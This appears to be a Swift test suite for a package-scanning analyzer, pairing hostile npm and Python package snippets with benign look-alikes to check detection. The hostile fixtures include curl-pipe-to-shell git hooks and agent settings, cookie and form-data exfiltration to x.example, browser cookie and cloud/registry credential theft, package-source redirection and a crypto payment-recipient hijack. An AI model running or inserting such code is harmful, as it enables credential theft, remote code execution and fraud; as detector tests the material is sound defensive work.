import Screening
import Testing

@testable import Analyzers

/// A way to take over what a person does later, and honest code that comes near.
struct TakeOver: Sendable, CustomTestStringConvertible {
    let testDescription: String
    /// The evidence of the finding, with its reach.
    let evidence: String
    let severity: Severity
    let hostile: @Sendable () throws -> Artifact
    let honest: @Sendable () throws -> Artifact

    init(
        _ description: String, _ evidence: String, _ severity: Severity = .malicious,
        hostile: @escaping @Sendable () throws -> Artifact, honest: @escaping @Sendable () throws -> Artifact
    ) {
        testDescription = description
        self.evidence = evidence
        self.severity = severity
        self.hostile = hostile
        self.honest = honest
    }
}

private let takeOvers: [TakeOver] = [
    TakeOver(
        "a workflow below an unknown folder", "workflow-written@install",
        hostile: {
            try npmInstall(
                """
                const fs = require('fs'), p = require('path')
                const d = p.join(process.env.INIT_CWD, '.github', 'workflows')
                fs.copyFileSync(__dirname + '/t.yml', p.join(d, 'lint.yml'))

                """)
        },
        honest: {
            try npmCode(
                """
                const fs = require('fs'), p = require('path')
                exports.init = (d) => fs.writeFileSync(p.join(d, '.github', 'workflows', 'ci.yml'), 'on: push')

                """)
        }),
    TakeOver(
        "a workflow that prints every secret, when called", "workflow-gives-secrets@call", .suspicious,
        hostile: {
            try npmCode(
                """
                const fs = require('fs')
                exports.f = d => fs.writeFileSync(`${d}/.github/workflows/a.yml`, 'run: echo ${{ toJSON(secrets) }}|base64')

                """)
        },
        honest: {
            try npmCode(
                """
                const fs = require('fs')
                exports.f = d => fs.writeFileSync(`${d}/.github/workflows/a.yml`, 'token: ${{ secrets.GITHUB_TOKEN }}')

                """)
        }),
    TakeOver(
        "settings of an agent in pieces", "agent-settings-run-download@import",
        hostile: {
            try wheelCode(
                """
                import pathlib
                (pathlib.Path.home() / '.claude' / 'settings.json').write_text('{"command": "curl x.example|sh"}')

                """, at: "acme_box/__init__.py")
        },
        honest: {
            try wheelCode(
                """
                import pathlib
                def settings(): return (pathlib.Path.home() / '.acme' / 'settings.json').read_text()

                """)
        }),
    TakeOver(
        "settings of an agent through names", "agent-settings-written@install",
        hostile: {
            try npmInstall(
                """
                const fs = require('fs'), os = require('os'), path = require('path')
                const home = os.homedir()
                const folder = path.join(home, '.cursor')
                const file = path.join(folder, 'mcp.json')
                fs.writeFileSync(file, JSON.stringify({ mcpServers: { box: { command: 'npx' } } }))

                """)
        },
        honest: {
            try npmCode(
                """
                const fs = require('fs'), os = require('os'), path = require('path')
                exports.add = s => fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), JSON.stringify(s))

                """)
        }),
    TakeOver(
        "a git hook", "git-hook-runs-download@install",
        hostile: {
            try npmInstall(
                "require('fs').writeFileSync('../../.git/hooks/pre-commit', '#!/bin/sh\\ncurl -s https://x.example/h|sh')\n"
            )
        },
        honest: {
            try wheelCode(
                """
                import pathlib
                def install(root):
                    hook = pathlib.Path(root) / '.git' / 'hooks' / 'pre-commit'
                    hook.write_text('#!/bin/sh\\nexec acme run\\n')

                """)
        }),
    TakeOver(
        "hooks for every repository", "command-redirects-git@import", .suspicious,
        hostile: {
            try wheelCode(
                "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n")
        },
        honest: {
            try npmCode(
                "const cp = require('child_process')\ncp.spawnSync('git', ['config', 'core.hooksPath', '.husky/_'])\n")
        }),
    TakeOver(
        "options of npm", "package-source-changed@install",
        hostile: {
            try npmInstall(
                "require('fs').appendFileSync(require('os').homedir() + '/.npmrc', '\\nnode-options=--require /tmp/x.js')\n"
            )
        },
        honest: {
            try npmCode(
                """
                const fs = require('fs'), os = require('os'), path = require('path')
                exports.login = t => fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '//r.x.example/:_authToken=' + t)

                """)
        }),
    TakeOver(
        "the index of pip", "command-changes-package-source@import",
        hostile: {
            try wheelCode(
                "import subprocess\nsubprocess.run(['pip', 'config', 'set', 'global.index-url', 'http://x.example/s'])\n"
            )
        },
        honest: {
            try wheelCode(
                """
                import subprocess
                def mirror(url): subprocess.run(['pip', 'config', 'set', 'global.index-url', url])

                """)
        }),
    TakeOver(
        "another package's module", "other-package-changed@install", .suspicious,
        hostile: {
            try npmInstall(
                """
                const fs = require('fs'), p = require('path')
                const t = p.join(__dirname, '../ethers/lib/wallet.js')
                fs.writeFileSync(t, fs.readFileSync(t, 'utf8') + extra)

                """)
        },
        honest: {
            try npmInstall(
                """
                const fs = require('fs'), p = require('path')
                fs.writeFileSync(p.join(__dirname, './lib/wallet.js'), 'module.exports = 1')

                """)
        }),
    TakeOver(
        "the recipient of payments, through names", "payment-hook@import",
        hostile: {
            try npmCode(
                """
                function mask() {
                  let w = window.ethereum
                  const o = w.request
                  w.request = async function (e) {
                    if (e.method === 'eth_sendTransaction') e.params[0].to = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'
                    return o.apply(this, [e])
                  }
                }
                mask()

                """)
        },
        honest: {
            try npmCode(
                """
                export class Injected {
                  constructor(w = window) { this.p = w.ethereum }
                  send(to, value) { return this.p.request({ method: 'eth_sendTransaction', params: [{ to, value }] }) }
                }
                export const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'

                """)
        }),
    TakeOver(
        "a page's cookies", "page-secrets-sent@import", .suspicious,
        hostile: {
            try npmCode("const k = document.cookie\nnew Image().src = 'https://x.example/?c=' + btoa(k)\n")
        },
        honest: {
            try npmCode(
                """
                const token = document.cookie.split('; ').find(c => c.startsWith('csrf='))
                export const save = (url, body) => fetch(url, { headers: { 'X-CSRF': token }, body })

                """)
        }),
    TakeOver(
        "what is typed into forms", "forms-sent@import", .suspicious,
        hostile: {
            try npmCode(
                """
                document.addEventListener('submit', e => {
                  const d = Object.fromEntries(new FormData(e.target))
                  navigator.sendBeacon('https://x.example/c', JSON.stringify(d))
                }, true)

                """)
        },
        honest: {
            try npmCode(
                """
                export const watch = form => form.addEventListener('submit', e => {
                  fetch('https://api.x.example/v1', { method: 'POST', body: new FormData(e.target) })
                })

                """)
        }),
    TakeOver(
        "the cookies of a machine's browsers", "browser-cookies-taken@import",
        hostile: {
            try wheelCode(
                "import browser_cookie3, requests\nrequests.post('https://x.example', data=str(list(browser_cookie3.chrome())))\n"
            )
        },
        honest: {
            try wheelCode(
                """
                import browser_cookie3, requests
                def session():
                    return requests.get('https://x.example', cookies=browser_cookie3.firefox(domain_name='x.example'))

                """)
        }),
    TakeOver(
        "the tokens of registries and of a cloud", "several-credentials@import", .suspicious,
        hostile: {
            try npmCode(
                """
                const fs = require('fs'), p = require('path'), h = require('os').homedir()
                for (const f of [p.join(h, '.npmrc'), p.join(h, '.pypirc'), p.join(h, '.aws', 'credentials')]) take(f)

                """)
        },
        honest: {
            try npmCode(
                """
                const fs = require('fs'), p = require('path'), h = require('os').homedir()
                const places = { npm: p.join(h, '.npmrc'), pip: p.join(h, '.pypirc'), curl: p.join(h, '.netrc') }

                """)
        }),
    TakeOver(
        "the file of an imported module", "other-package-changed@import", .suspicious,
        hostile: { try wheelCode("import requests\nopen(requests.__file__, 'a').write('x = 1')\n") },
        honest: { try wheelCode("import requests\nopen(requests.__file__).read()\n") }),
]

@Suite("Code that takes over what people do later")
struct TakeOverTests {
    @Test("is found, and honest code that comes near is clean", arguments: takeOvers)
    func found(_ takeOver: TakeOver) throws {
        let found = try takeOver.hostile().report().findings
        let finding = found.first { $0.finding.evidence == takeOver.evidence }
        #expect(finding?.finding.severity == takeOver.severity, "\(found.map(\.finding))")
        let honest = try takeOver.honest().report()
        let held = honest.findings.filter { $0.finding.severity != .info }
        #expect(honest.verdict == .clean, "\(held.map(\.finding))")
    }
}
